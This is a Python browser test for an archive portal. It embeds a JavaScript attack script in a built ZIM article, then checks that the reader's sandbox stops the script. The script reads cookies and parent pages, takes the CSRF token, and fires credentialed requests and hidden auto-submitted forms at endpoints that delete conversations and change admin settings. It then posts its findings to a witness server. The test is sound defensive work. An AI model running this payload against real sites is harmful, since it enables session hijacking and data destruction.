"""An archive's article cannot act as the portal: a ZIM built here carries a script that tries every
state-changing endpoint with the reader's cookies (fetch with credentials, auto-submitted forms) and reads what
it should not (document.cookie, the reader's page). Opened in the reader and on its own, it runs (it reports
to a witness server) and changes nothing. The control: the very same script, run in the portal's own origin,
does change the state, so the test would see a sandbox that does not hold.
"""

from __future__ import annotations

import json
import time

from almanac_testing import Portal, almanac, free_port
from content.zim_builder import build_zim

from .security_testing import state_snapshot

# Every state-changing endpoint the article's script tries, with the victim's ids ({job}, {cid}) filled in.
# The admin console's endpoints go here too (one line each).
TARGETS = [
    {"method": "POST", "path": "/answers", "form": "q=wikibooks"},
    {"method": "POST", "path": "/answers/{job}/cancel"},
    {"method": "POST", "path": "/answers/{job}/delete"},
    {"method": "DELETE", "path": "/answers/{job}"},
    {"method": "POST", "path": "/conversations/{cid}/rename", "form": "title=renamed+by+an+article"},
    {"method": "POST", "path": "/conversations/{cid}/delete"},
    {"method": "DELETE", "path": "/conversations/{cid}"},
    {"method": "POST", "path": "/assistant/stream", "json": {"q": "wikibooks", "conversation": "new"}},
    {"method": "POST", "path": "/admin/settings", "form": "key=portal.title&value=Taken+by+an+article"},
    {"method": "POST", "path": "/admin/library/example/remove"},
]

ATTACK_JS = """
(async function () {
  const TARGETS = __TARGETS__, WITNESS = __WITNESS__;
  const report = { origin: String(self.origin), framed: window.parent !== window, fetches: [], forms: 0 };
  function probe(name, read) {
    try { report[name] = "read: " + String(read()).slice(0, 200); } catch (e) { report[name] = "refused: " + e.name; }
  }
  probe("cookie", function () { return document.cookie; });
  probe("parent_document", function () { return window.parent.document.title; });
  probe("top_document", function () { return window.top.document.title; });
  probe("local_storage", function () { return window.localStorage.getItem("almanac-dark"); });
  // The CSRF token, as the portal's own scripts get it (the admin's, when the reader is logged in as the admin).
  let token = "";
  try {
    token = (await fetch("/api/csrf", { credentials: "include" }).then(function (r) { return r.json(); })).csrf_token;
    report.token = "read";
  } catch (e) { report.token = "refused: " + e.name; }
  for (const t of TARGETS) {
    const init = { method: t.method, credentials: "include", headers: { "X-CSRF-Token": token } };
    if (t.form) { init.body = t.form; init.headers["Content-Type"] = "application/x-www-form-urlencoded"; }
    if (t.json) { init.body = JSON.stringify(t.json); init.headers["Content-Type"] = "application/json"; }
    try {
      const r = await fetch(t.path, init);
      report.fetches.push(t.method + " " + t.path + " -> " + r.status);
    } catch (e) {
      report.fetches.push(t.method + " " + t.path + " -> " + e.name);
    }
  }
  // The same endpoints as forms, each posted into a hidden frame of its own (a form is no CORS request).
  await Promise.all(TARGETS.filter(function (t) { return t.method === "POST"; }).map(function (t, i) {
    return new Promise(function (resolve) {
      const sink = document.createElement("iframe");
      sink.name = "sink" + i;
      sink.style.display = "none";
      document.body.appendChild(sink);
      const form = document.createElement("form");
      form.method = "POST";
      form.action = t.path;
      form.target = sink.name;
      const fields = new URLSearchParams(t.form || "");
      fields.set("csrf_token", token);
      fields.forEach(function (v, k) {
        const input = document.createElement("input");
        input.name = k;
        input.value = v;
        form.appendChild(input);
      });
      document.body.appendChild(form);
      sink.addEventListener("load", function () { report.forms += 1; resolve(); }, { once: true });
      form.submit();
      setTimeout(resolve, 10000);
    });
  }));
  await fetch(WITNESS, { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
})();
"""


ADMIN_PASSWORD = "the admin's own password"


def _victim(b, portal: Portal) -> tuple[int, str]:
    """The browser's own device gets a saved conversation and a waiting answer, as a reader would; their ids."""
    b.call("Page.navigate", url=f"{portal.url}/library")
    assert b.wait_for("document.readyState === 'complete'", 30)
    made = b.evaluate(
        """(async () => {
          const token = (await fetch('/api/csrf').then(r => r.json())).csrf_token;
          const headers = {'Content-Type': 'application/json', 'X-CSRF-Token': token};
          const s = await fetch('/assistant/stream', {method: 'POST', headers: headers,
            body: JSON.stringify({q: 'wikibooks', conversation: 'new'})}).then(r => r.text());
          const cid = JSON.parse(s.split('event: conversation\\ndata: ')[1].split('\\n')[0]).id;
          const job = await fetch('/answers', {method: 'POST', headers: headers,
            body: JSON.stringify({q: 'wikibooks'})}).then(r => r.json());
          return {cid: cid, job: job.job.id};
        })()""",
        await_promise=True,
    )
    # ... and is logged in to the console as the admin (the article then tries the console's changes too).
    b.evaluate(
        f"""(async () => {{
          const token = (await fetch('/admin/login?format=json').then(r => r.json())).csrf_token;
          const r = await fetch('/admin/login', {{method: 'POST', headers: {{'Accept': 'application/json'}},
            body: new URLSearchParams({{password: {json.dumps(ADMIN_PASSWORD)}, csrf_token: token}})}});
          if (!r.ok) throw new Error('login ' + r.status);
        }})()""",
        await_promise=True,
    )
    return made["job"], made["cid"]


def _attack_book(tmp_path, portal: Portal, job: int, cid: str, witness_url: str) -> None:
    targets = [{k: (v.format(job=job, cid=cid) if k == "path" else v) for k, v in t.items()} for t in TARGETS]
    src = tmp_path / "attack-src"
    src.mkdir()
    (src / "index.html").write_text(
        "<html><head><title>Attack</title></head><body><h2>An ordinary article</h2>"
        "<p>Its script tries to act as the reader who opens it.</p>"
        '<script src="attack.js"></script></body></html>'
    )
    (src / "attack.js").write_text(
        ATTACK_JS.replace("__TARGETS__", json.dumps(targets)).replace("__WITNESS__", json.dumps(witness_url))
    )
    out = portal.data / "archives" / "attack.zim"
    build_zim(src, tmp_path / "attack.zim", title="Attack", description="An article that tries to act as the admin")
    (tmp_path / "attack.zim").rename(out)  # dropped into the library: found by the next scan
    deadline = time.monotonic() + 30
    import urllib.request

    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(f"{portal.url}/content/attack/index", timeout=5):
                break
        except OSError:
            time.sleep(0.5)
    # The reader's "view on map" indexes a book on first use: done now, so the snapshots see user state only.
    try:
        urllib.request.urlopen(f"{portal.url}/maps/article?book=attack&path=index", timeout=30)
    except OSError:
        pass


def test_an_article_script_cannot_act_as_the_portal(tmp_path, browser, witness):
    dead = free_port()  # the deep model's server is down: a waiting answer just waits
    config = (
        "server:\n  host: 127.0.0.1\nlibrary:\n  scan_interval_s: 1\n"
        f'assistant:\n  url: ""\n  deep:\n    url: http://127.0.0.1:{dead}\n'
    )
    with Portal(tmp_path, config, books=("example",)) as portal:
        (tmp_path / "admin-password").write_text(ADMIN_PASSWORD + "\n")
        done = almanac("admin", "set-password", "--password-file", str(tmp_path / "admin-password"), env=portal.env)
        assert done.returncode == 0, done.stderr
        b = browser
        b.call("Page.enable")
        b.call("Runtime.enable")
        job, cid = _victim(b, portal)
        _attack_book(tmp_path, portal, job, cid, witness.url)
        db = portal.data / "almanac.db"
        before = state_snapshot(db)
        assert any(row[0] == cid for row in before["conversations"]) and before["answer_jobs"]

        # In the reader, framed, as a person opens it; then on its own, as a link from the map opens it.
        b.call("Page.navigate", url=f"{portal.url}/viewer#attack/index")
        framed = witness.wait(1)[0]
        b.call("Page.navigate", url=f"{portal.url}/content/attack/index")
        alone = witness.wait(2)[1]
        for report in (framed, alone):
            assert report["origin"] == "null", report
            assert report["cookie"].startswith("refused") and report["local_storage"].startswith("refused"), report
            assert len(report["fetches"]) == len(TARGETS), report
            assert not any(f.endswith((" 200", " 201", " 303")) for f in report["fetches"]), report
        assert framed["framed"] and framed["parent_document"].startswith("refused"), framed
        assert framed["top_document"].startswith("refused"), framed
        assert framed["forms"] == alone["forms"] == sum(t["method"] == "POST" for t in TARGETS), (framed, alone)
        assert framed["token"].startswith("refused") and alone["token"].startswith("refused"), (framed, alone)
        time.sleep(1)  # a form's request that was still on its way lands now
        assert state_snapshot(db) == before
        assert "Taken by an article" not in portal.config.read_text()  # the console's settings: untouched

        # Control: the same bytes run in the portal's own origin change the state.
        b.call("Page.navigate", url=f"{portal.url}/library")
        assert b.wait_for("document.readyState === 'complete'", 30)
        b.evaluate("fetch('/raw/attack/content/attack.js').then(r => r.text()).then(eval)")
        control = witness.wait(3)[2]
        assert control["origin"] == portal.url and control["parent_document"].startswith("read"), control
        assert any(f.endswith(" 200") for f in control["fetches"]), control
        after = state_snapshot(db)
        assert not any(row[0] == cid for row in after["conversations"]), after["conversations"]
        assert after["answer_jobs"] != before["answer_jobs"]
        assert control["token"] == "read" and "Taken by an article" in portal.config.read_text()  # the console too
